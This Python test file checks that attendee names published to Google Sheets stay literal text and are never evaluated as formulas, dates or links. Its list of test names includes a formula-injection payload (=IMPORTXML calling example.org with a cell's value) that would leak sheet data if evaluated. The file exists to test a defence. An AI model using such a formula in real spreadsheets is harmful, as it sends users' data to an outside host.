"""Names are data: what would be a formula, a date or a link when typed stays text."""

from __future__ import annotations

from include.pipeline.load import publish
from sandbox.google import GoogleState
from tests.pipeline.reports import backwards, person, report, seen, tab_of
from tests.pipeline.runs import meeting

HOSTILE = (
    '=IMPORTXML("http://example.org/?"&A1,"//a")',
    "+61 2 5550 0000",
    "-1",
    "@everyone",
    "Zoë 🎻 Example",
    'O\'Neil "Al" Example',
    "'007",
    "1/2",
    "TRUE",
    "https://example.org",
    "Tab\tand\nline",
)


def test_names_are_shown_as_typed_and_never_interpreted(google: GoogleState) -> None:
    made = report(meeting(), [person(name) for name in HOSTILE])
    published = publish(meeting(), made)
    rows = tab_of(google, published, made).cells
    shown = [row[0] for row in seen(google, published, made)[6:]]
    assert sorted(shown) == sorted(HOSTILE)
    assert [rows[6 + place][0]["userEnteredValue"] for place in range(len(HOSTILE))] == [
        {"stringValue": name} for name in shown
    ]


def test_name_in_the_sections_below_is_not_interpreted_either(google: GoogleState) -> None:
    made = report(meeting(), [person("Ada"), backwards("=1+1")])
    published = publish(meeting(), made)
    last = len(made.rows) - 1
    assert tab_of(google, published, made).cells[last][0]["userEnteredValue"] == {
        "stringValue": "=1+1"
    }
